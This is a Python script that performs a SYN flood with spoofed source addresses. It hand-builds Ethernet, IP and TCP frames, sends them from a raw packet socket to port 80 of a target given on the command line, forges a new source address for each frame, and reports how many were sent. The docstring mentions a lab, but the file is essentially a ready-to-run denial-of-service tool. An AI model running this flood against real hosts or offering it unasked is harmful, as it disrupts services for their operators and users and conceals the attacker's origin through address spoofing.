"""A SYN flood from spoofed sources: `python flood.py TARGET COUNT` on a host of the lab.

Frames are built whole and sent from a packet socket, each from another source address; prints how
many the device took.
"""

from __future__ import annotations

import socket
import struct
import sys
from pathlib import Path


def checksum(data: bytes) -> int:
    """Ones' complement sum of 16-bit words (RFC 1071), not yet complemented."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def neighbour(address: str) -> bytes:
    """Hardware address of a host that was spoken to."""
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[0] == address:
            return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit(f"{address} is not in the ARP table; ping it first")


def main() -> None:
    """Send the flood."""
    target, count = sys.argv[1], int(sys.argv[2])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind(("eth0", 0))
        ethernet = neighbour(target) + sender.getsockname()[4] + b"\x08\x00"
        fixed = struct.pack(">BBHHHBB", 0x45, 0, 40, 0, 0, 64, 6)
        to = socket.inet_aton(target)
        base = checksum(fixed + to)
        tcp = struct.pack(">HHIIBBHHH", 4000, 80, 1, 0, 0x50, 0x02, 1024, 0, 0)
        sent = 0
        for number in range(count):
            high, low = 0x0B00 + (number >> 16), number & 0xFFFF  # 11.0.0.0 and on
            total = base + high + low
            total = (total & 0xFFFF) + (total >> 16)
            total = (total & 0xFFFF) + (total >> 16)
            header = struct.pack(">HHH", ~total & 0xFFFF, high, low)
            try:
                sender.send(ethernet + fixed + header + to + tcp)
                sent += 1
            except OSError:  # the device's queue is full
                continue
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main()
